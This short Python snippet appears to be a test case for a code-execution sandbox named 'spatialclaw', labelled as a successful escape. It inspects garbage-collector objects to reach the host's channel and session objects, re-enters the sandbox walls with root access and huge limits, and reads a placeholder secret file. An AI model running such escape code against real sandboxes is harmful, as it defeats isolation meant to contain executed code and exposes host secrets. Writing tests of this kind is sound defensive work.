# success: the cell finds the host's objects and makes them read a path
import gc
for o in gc.get_objects():
    if type(o).__name__ in ("Channel", "Bridge", "Session"):
        print(type(o), [n for n in dir(o) if not n.startswith("__")])
import spatialclaw._host as h
try:
    w = h.Walls(["/"], [])
    w.enter("none", "/", {k: 1 << 40 for k in ("memory_bytes", "cpu_seconds", "file_bytes", "scratch_bytes", "open_files", "threads")})
except BaseException as e:
    print(type(e))
print(open("@SECRET_FILE@").read())
